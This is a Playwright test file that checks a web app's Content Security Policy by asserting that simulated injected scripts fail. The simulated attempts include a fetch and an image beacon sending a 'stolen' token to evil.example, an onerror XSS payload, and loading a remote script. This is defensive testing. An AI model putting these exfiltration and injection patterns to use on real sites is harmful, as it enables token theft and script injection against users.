import { expect, test } from "../fixtures.ts";

test.use({ isWatched: false });

/** What an injected script would try, with the token within reach. */
const attempts: Record<string, () => unknown> = {
  "send the token elsewhere": () => fetch("https://evil.example/?token=stolen"),
  "turn text into HTML": () => {
    document.body.innerHTML = "<img src=x onerror=alert(1)>";
  },
  // The debugger that runs this may evaluate text itself, but a timer's callback may not.
  "run text as code": () =>
    new Promise((resolve, reject) => {
      setTimeout(() => {
        try {
          resolve(new Function("return 1")());
        } catch (error) {
          reject(error);
        }
      });
    }),
  "add an inline script": () => {
    const script = document.createElement("script");
    script.textContent = "window.wasRun = true";
    document.body.append(script);
    if (!("wasRun" in window)) throw new Error("not run");
  },
  "load a script from elsewhere": () =>
    new Promise((resolve, reject) => {
      const script = document.createElement("script");
      script.onload = resolve;
      script.onerror = reject;
      script.src = "https://evil.example/x.js";
      document.body.append(script);
    }),
  "load a picture from elsewhere": () =>
    new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = resolve;
      image.onerror = reject;
      image.src = "https://evil.example/?token=stolen";
    }),
};

for (const address of ["/", "/login"]) {
  test(`on ${address} an injected script cannot reach another host or run text as code`, async ({ page }) => {
    const reached: string[] = [];
    await page.route("https://evil.example/**", (route) => {
      reached.push(route.request().url());
      return route.fulfill({ status: 200, body: "" });
    });
    await page.goto(address);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();

    for (const [attempt, run] of Object.entries(attempts)) {
      await test.step(`it cannot ${attempt}`, async () => {
        await expect(page.evaluate(run)).rejects.toThrow();
        expect(reached).toEqual([]);
      });
    }
  });
}

test("the deployed product does not show the design pieces", async ({ page }) => {
  await page.goto("/__ui");
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("There is nothing growing here");
});
